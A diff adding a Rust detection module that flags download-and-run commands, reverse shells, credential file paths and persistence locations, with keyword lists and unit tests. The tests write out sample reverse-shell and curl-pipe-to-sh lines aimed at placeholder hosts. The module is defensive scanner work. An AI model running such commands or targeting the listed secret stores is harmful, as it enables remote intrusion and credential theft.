@@ -1,0 +1,185 @@
+//! What a text in an argument is about. The words are those of the tools and places themselves, never of a sample.
+
+/// Fetches something.
+const DOWNLOADS: &[&str] = &[
+    "curl ",
+    "wget ",
+    "fetch ",
+    "aria2c ",
+    "certutil",
+    "bitsadmin",
+    "invoke-webrequest",
+    "iwr ",
+    "downloadstring",
+    "downloadfile",
+    "urlretrieve",
+    "urlopen",
+    "requests.get",
+    "start-bitstransfer",
+];
+/// Runs what was fetched.
+const RUNS: &[&str] = &[
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "| python",
+    "|python",
+    "| sudo",
+    "chmod +x",
+    "chmod 7",
+    "; sh ",
+    "&& sh ",
+    "&& bash ",
+    "; bash ",
+    "iex",
+    "invoke-expression",
+    "start-process",
+    "exec(",
+    "os.system",
+    "subprocess",
+    "popen",
+    "&& ./",
+    "; ./",
+    "rundll32",
+    "regsvr32",
+    "bash -c",
+    "sh -c",
+    "bash <(",
+];
+/// Files and addresses that hold secrets.
+const CREDENTIALS: &[&str] = &[
+    ".ssh/",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    ".aws/credentials",
+    ".aws/config",
+    ".netrc",
+    "/etc/shadow",
+    ".docker/config.json",
+    ".kube/config",
+    "huggingface/token",
+    ".git-credentials",
+    ".pypirc",
+    ".npmrc",
+    ".gnupg",
+    "169.254.169.254",
+    "metadata.google.internal",
+    "aws_secret_access_key",
+    "aws_session_token",
+    "hf_token",
+    "hugging_face_hub_token",
+    "github_token",
+    "openai_api_key",
+    "anthropic_api_key",
+    "google_application_credentials",
+    "azure_client_secret",
+    "wandb_api_key",
+    "/proc/self/environ",
+    "login data",
+    "cookies.sqlite",
+    "wallet.dat",
+    "gcloud/credentials.db",
+    "application_default_credentials.json",
+];
+/// Places from which something starts again by itself.
+const PERSISTENCE: &[&str] = &[
+    "crontab",
+    "/etc/cron",
+    "/var/spool/cron",
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".profile",
+    ".zshrc",
+    ".zshenv",
+    "authorized_keys",
+    "/etc/systemd",
+    ".config/systemd",
+    "/etc/init.d",
+    "/etc/rc.local",
+    "launchagents",
+    "launchdaemons",
+    "sitecustomize",
+    "usercustomize",
+    "/etc/ld.so.preload",
+    "/etc/profile",
+    ".config/autostart",
+    "currentversion\\run",
+    "programs\\startup",
+    "schtasks",
+    ".git/hooks",
+    "profile_default/startup",
+    "/etc/sudoers",
+];
+
+fn any(text: &str, words: &[&str]) -> bool {
+    words.iter().any(|word| text.contains(word))
+}
+
+/// Whether `text` fetches something and runs it.
+pub(super) fn is_shell_download(text: &str) -> bool {
+    let text = text.to_lowercase();
+    any(&text, DOWNLOADS) && any(&text, RUNS)
+}
+
+/// Whether `text` gives a shell to another machine.
+pub(super) fn is_reverse_shell(text: &str) -> bool {
+    let text = text.to_lowercase();
+    let netcat = any(&text, &["nc ", "ncat ", "netcat "]) && any(&text, &[" -e", " -c ", "mkfifo", "mknod", "--exec"]);
+    let python = text.contains("socket") && any(&text, &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe"]);
+    let socat = text.contains("socat") && any(&text, &["exec:", "system:"]);
+    let shell = any(&text, &["/dev/tcp/", "/dev/udp/"]) || text.contains("net.sockets.tcpclient");
+    netcat || python || socat || shell
+}
+
+/// Whether `text` names a place where credentials are kept.
+pub(super) fn names_credentials(text: &str) -> bool {
+    any(&text.to_lowercase(), CREDENTIALS)
+}
+
+/// Whether `text` names a place from which something is started again.
+pub(super) fn names_persistence(text: &str) -> bool {
+    let text = text.to_lowercase();
+    any(&text, PERSISTENCE) || text.ends_with(".pth")
+}
+
+/// Whether a name leads out of the folder in which it stands: absolute, with a drive, or up.
+pub(super) fn escapes(target: &str) -> bool {
+    let drive =
+        target.as_bytes().get(1) == Some(&b':') && target.starts_with(|letter: char| letter.is_ascii_alphabetic());
+    drive || target.starts_with(['/', '\\', '~']) || target.split(['/', '\\']).any(|part| part == "..")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_download_alone_is_no_run() {
+        assert!(is_shell_download("curl http://x.example/a | sh"));
+        assert!(is_shell_download("wget -q x -O /tmp/a; chmod +x /tmp/a"));
+        assert!(!is_shell_download("curl http://x.example/a"));
+        assert!(!is_shell_download("sh -c 'echo hi'"));
+    }
+
+    #[test]
+    fn shells_for_others_are_known() {
+        assert!(is_reverse_shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        assert!(is_reverse_shell("nc -e /bin/sh 10.0.0.1 4444"));
+        assert!(is_reverse_shell("import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"));
+        assert!(!is_reverse_shell("nc -z localhost 80"));
+        assert!(!is_reverse_shell("bash run.sh"));
+    }
+
+    #[test]
+    fn names_that_lead_out() {
+        for target in ["../x", "a/../../x", "/etc/passwd", "C:\\x", "..\\x", "~/x"] {
+            assert!(escapes(target), "{target}");
+        }
+        for target in ["a/b", "a..b", "..a/b", "model-00001-of-00002.safetensors"] {
+            assert!(!escapes(target), "{target}");
+        }
+    }
+}
